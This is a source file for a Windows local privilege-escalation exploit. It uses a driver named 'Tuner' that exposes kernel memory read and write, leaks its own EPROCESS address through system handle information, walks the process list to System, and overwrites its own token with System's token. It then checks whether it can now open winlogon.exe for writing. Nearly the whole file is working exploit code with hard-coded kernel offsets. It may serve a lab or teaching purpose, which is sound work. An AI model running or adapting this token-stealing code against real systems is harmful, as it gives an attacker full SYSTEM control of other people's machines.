/*
 * A plain user becomes SYSTEM through a driver that only reads and writes: finds its own EPROCESS by a
 * handle, follows the list of processes to System, and copies the token.
 */
import {
  CTL_CODE,
  CloseHandle,
  CreateFile,
  DeviceIoControl,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_UNKNOWN,
  GENERIC_READ,
  GENERIC_WRITE,
  GetCurrentProcessId,
  INVALID_HANDLE_VALUE,
  METHOD_BUFFERED,
  NtQuerySystemInformation,
  OPEN_EXISTING,
  OpenProcess,
  PROCESS_QUERY_LIMITED_INFORMATION,
  PROCESS_VM_WRITE,
  PVOID,
  SystemExtendedHandleInformation,
  ULONG,
  ULONGLONG,
  USHORT,
  cast,
  free,
  local,
  malloc,
  out,
  printf,
  sizeof,
  struct,
} from 'win32'
import type { DWORD, HANDLE } from 'win32'

const IOCTL_READ = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const IOCTL_WRITE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x801, METHOD_BUFFERED, FILE_ANY_ACCESS)

const REQUEST = struct('REQUEST', {
  Address: ULONGLONG,
  Value: ULONGLONG,
})

/** Offsets in EPROCESS, as in every public symbol file of this build. */
const UNIQUE_PROCESS_ID = 0x440n
const ACTIVE_PROCESS_LINKS = 0x448n
const TOKEN = 0x4b8n
const SYSTEM_ID = 4n
/** The id of winlogon.exe on this machine. */
const WINLOGON = 1764

/** A handle in the answer to SystemExtendedHandleInformation (SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX). */
const HANDLE_ENTRY = struct('HANDLE_ENTRY', {
  Object: ULONGLONG,
  UniqueProcessId: ULONGLONG,
  HandleValue: ULONGLONG,
  GrantedAccess: ULONG,
  CreatorBackTraceIndex: USHORT,
  ObjectTypeIndex: USHORT,
  HandleAttributes: ULONG,
  Reserved: ULONG,
})
const HANDLES_BYTES = 0x8000
/** In front of the handles of the answer: their number, and eight bytes that are reserved. */
const HANDLES_OFFSET = 16

/** Where in the kernel the object of an own handle lies; 0 when Windows does not say. */
function whereIs(handle: HANDLE): ULONGLONG {
  const answer = malloc(HANDLES_BYTES)
  if (answer === null) return 0n
  const own = BigInt(GetCurrentProcessId())
  const length = out<DWORD>()
  const status = NtQuerySystemInformation(
    SystemExtendedHandleInformation,
    answer,
    HANDLES_BYTES,
    length,
  )
  let found: ULONGLONG = 0n
  const count = status === 0 ? answer.u32[0] : 0
  for (let i = 0; i < count && found === 0n; i++) {
    const entry = cast(HANDLE_ENTRY, answer.add(HANDLES_OFFSET + i * sizeof(HANDLE_ENTRY)))
    if (entry.UniqueProcessId === own && entry.HandleValue === BigInt(handle)) found = entry.Object
  }
  free(answer)
  return found
}

/** Eight bytes of the kernel; 0 when the driver refuses. */
function read(device: HANDLE, address: ULONGLONG): ULONGLONG {
  const request = local(REQUEST)
  request.Address = address
  const done = DeviceIoControl(
    device,
    IOCTL_READ,
    request,
    sizeof(REQUEST),
    request,
    sizeof(REQUEST),
    out<DWORD>(),
    null,
  )
  return done ? request.Value : 0n
}

function write(device: HANDLE, address: ULONGLONG, value: ULONGLONG): boolean {
  const request = local(REQUEST)
  request.Address = address
  request.Value = value
  return (
    DeviceIoControl(device, IOCTL_WRITE, request, sizeof(REQUEST), null, 0, out<DWORD>(), null) !==
    0
  )
}

/** The EPROCESS of System, by the list that all processes hang in; 0 when it is not found. */
function findSystem(device: HANDLE, own: ULONGLONG): ULONGLONG {
  let process = own
  for (let i = 0; i < 64; i++) {
    const link = read(device, process + ACTIVE_PROCESS_LINKS)
    if (link === 0n) return 0n
    process = link - ACTIVE_PROCESS_LINKS
    if (read(device, process + UNIQUE_PROCESS_ID) === SYSTEM_ID) return process
  }
  return 0n
}

function steal(device: HANDLE): boolean {
  const self = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, FALSE, GetCurrentProcessId())
  if (self === null) return false
  const own = whereIs(self)
  CloseHandle(self)
  printf('EPROCESS of client.exe: %p\n', cast(PVOID, own))
  const system = own === 0n ? 0n : findSystem(device, own)
  if (system === 0n) return false
  printf('EPROCESS of System: %p\n', cast(PVOID, system))
  // The low four bits count references of the one that the field belongs to.
  const token = (read(device, system + TOKEN) & ~0xfn) | (read(device, own + TOKEN) & 0xfn)
  return write(device, own + TOKEN, token)
}

function attempt(): void {
  const process = OpenProcess(PROCESS_VM_WRITE, FALSE, WINLOGON)
  printf('winlogon.exe: %s\n', process === null ? 'refused' : 'opened for writing')
  if (process !== null) CloseHandle(process)
}

export function main(): number {
  attempt()
  const device = CreateFile(
    '\\\\.\\Tuner',
    GENERIC_READ | GENERIC_WRITE,
    0,
    null,
    OPEN_EXISTING,
    0,
    null,
  )
  if (device === INVALID_HANDLE_VALUE) return 1
  if (!steal(device)) printf('The driver does not help\n')
  CloseHandle(device)
  attempt()
  return 0
}
